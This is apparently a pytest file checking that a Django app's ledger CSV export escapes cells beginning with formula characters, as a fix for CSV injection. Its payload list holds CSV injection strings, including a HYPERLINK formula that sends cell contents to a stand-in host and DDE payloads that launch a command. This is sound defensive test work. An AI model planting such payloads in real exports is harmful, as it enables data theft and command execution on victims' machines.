"""Issue 13, finding 11: CSV exports wrote cells starting with `=`, `+`, `-`, `@`
unescaped, so an order number or a memo from a store could run a formula in the
seller's spreadsheet (OWASP "CSV Injection").

The ledger export (the CSV PodHub writes) is downloaded like the seller does; every
text cell that begins with a formula character carries a leading `'`, amounts are
plain numbers (a negative amount is a number, not a formula), and the one helper
every writer uses keeps the rule (podhub/core/csv_export.py).
"""

import csv
import io
from decimal import Decimal

import pytest
from django_scopes import scope

from billing import ledger, topups
from billing.models import EntryKind
from tests.orders.dashboard_data import make_order, make_store

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
NUMERIC_COLUMNS = ("id", "amount", "balance_delta", "held_delta", "balance_after",
                   "available_after")


def export(client) -> list[dict]:
    resp = client.get("/balance/ledger.csv")
    assert resp.status_code == 200
    assert resp["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(resp.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_hostile_text_in_the_ledger_export_is_escaped_and_amounts_stay_numbers(
        workspace, owner, client_for):
    # given ledger entries whose order number, memo and reason came from outside
    store = make_store(workspace)
    with scope(workspace=workspace):
        ledger.credit(workspace_id=workspace.pk, kind=EntryKind.TOP_UP, amount=Decimal("500"),
                      key="seed", memo=PAYLOADS[2])
        for i, payload in enumerate(PAYLOADS):
            order = make_order(workspace, store, number=payload)
            hold = ledger.hold_place(workspace_id=workspace.pk, amount=Decimal("12.50"),
                                     key=f"h{i}", order_id=order.pk, memo=payload)
            ledger.hold_capture(workspace_id=workspace.pk, hold_id=hold.pk, key=f"c{i}",
                                memo=payload)
            topups.balance_adjust(workspace_id=workspace.pk, amount="-1.25", reason=payload,
                                  staff_user=None, key=f"a{i}")
    # when the seller exports the ledger
    rows = export(client_for(owner))
    # then no cell starts a formula, and what was escaped reads back as the original
    assert len(rows) == 1 + 3 * len(PAYLOADS)
    for row in rows:
        for column, cell in row.items():
            if column in NUMERIC_COLUMNS:
                Decimal(cell)  # a plain number, negative ones included
            else:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    orders = {row["order"] for row in rows if row["order"]}
    assert orders == {"'" + p for p in PAYLOADS}
    reasons = {row["reason"] for row in rows if row["reason"]}
    assert reasons == {"'" + p.strip() for p in PAYLOADS}  # staff reasons are stripped
    adjustments = [row for row in rows if row["kind"] == "adjustment"]
    assert {row["balance_delta"] for row in adjustments} == {"-1.25"}  # a number, in cents


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("x=1", "x=1"), ("", ""), (None, ""),
    (Decimal("-12.500"), Decimal("-12.500")), (-3, -3), (2.5, 2.5), (True, "True"),
])
def test_the_one_rule_for_every_cell(value, cell):
    from podhub.core.csv_export import safe_cell

    assert safe_cell(value) == cell


def test_headers_are_escaped_too():
    from podhub.core.csv_export import csv_lines

    lines = list(csv_lines(["=bad"], [["ok"]]))
    assert lines[0].startswith("'=bad")
